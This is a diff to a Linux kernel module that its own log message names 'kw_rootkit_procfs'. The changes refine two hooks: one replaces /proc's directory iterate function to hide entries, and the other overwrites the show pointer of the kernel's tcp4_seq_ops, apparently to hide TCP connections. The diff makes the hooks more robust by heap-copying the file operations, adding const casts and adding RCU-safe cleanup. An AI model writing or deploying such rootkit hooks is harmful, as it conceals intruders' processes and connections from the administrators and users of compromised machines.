@@ -17,17 +17,19 @@
 #include <linux/mm.h>
 #include <linux/module.h>
 #include <linux/seq_file.h>
+#include <linux/slab.h>
 #include <linux/vmalloc.h>
 
 static char *mode = "fops";
 module_param(mode, charp, 0444);
 
 typedef unsigned long (*kw_lookup_fn)(const char *name);
+typedef int (*kw_iterate_fn)(struct file *file, struct dir_context *ctx);
 
 static struct inode *kw_inode;
 static const struct file_operations *kw_orig_fops;
-static struct file_operations kw_fops;
-static struct seq_operations *kw_sops;
+static void *kw_fops;		/* our copy of /proc's file_operations */
+static const struct seq_operations *kw_sops;
 static int (*kw_orig_show)(struct seq_file *m, void *v);
 
 static int kw_iterate(struct file *file, struct dir_context *ctx)
@@ -79,19 +81,26 @@ static int kw_hook_fops(void)
 	ihold(kw_inode);
 	filp_close(f, NULL);
 	kw_orig_fops = kw_inode->i_fop;
-	kw_fops = *kw_orig_fops;
-	kw_fops.iterate_shared = kw_iterate;
-	WRITE_ONCE(kw_inode->i_fop, &kw_fops);
+	kw_fops = kmemdup(kw_orig_fops, sizeof(*kw_orig_fops), GFP_KERNEL);
+	if (!kw_fops) {
+		iput(kw_inode);
+		kw_inode = NULL;
+		return -ENOMEM;
+	}
+	*(kw_iterate_fn *)((u8 *)kw_fops +
+			   offsetof(typeof(*kw_orig_fops), iterate_shared)) =
+		kw_iterate;
+	WRITE_ONCE(kw_inode->i_fop, kw_fops);
 	return 0;
 }
 
 static int kw_hook_seq(void)
 {
-	kw_sops = (struct seq_operations *)kw_find("tcp4_seq_ops");
+	kw_sops = (const struct seq_operations *)kw_find("tcp4_seq_ops");
 	if (!kw_sops)
 		return -ENOENT;
 	kw_orig_show = kw_sops->show;
-	return kw_write_ptr(&kw_sops->show, kw_show);
+	return kw_write_ptr((void *)&kw_sops->show, kw_show);
 }
 
 static int __init kw_procfs_init(void)
@@ -108,9 +117,11 @@ static void __exit kw_procfs_exit(void)
 	if (kw_inode) {
 		WRITE_ONCE(kw_inode->i_fop, kw_orig_fops);
 		iput(kw_inode);
+		synchronize_rcu();	/* no open of /proc still copying it */
+		kfree(kw_fops);
 	}
 	if (kw_sops)
-		kw_write_ptr(&kw_sops->show, kw_orig_show);
+		kw_write_ptr((void *)&kw_sops->show, kw_orig_show);
 	pr_info("kw_rootkit_procfs: unhooked (%s)\n", mode);
 }
 
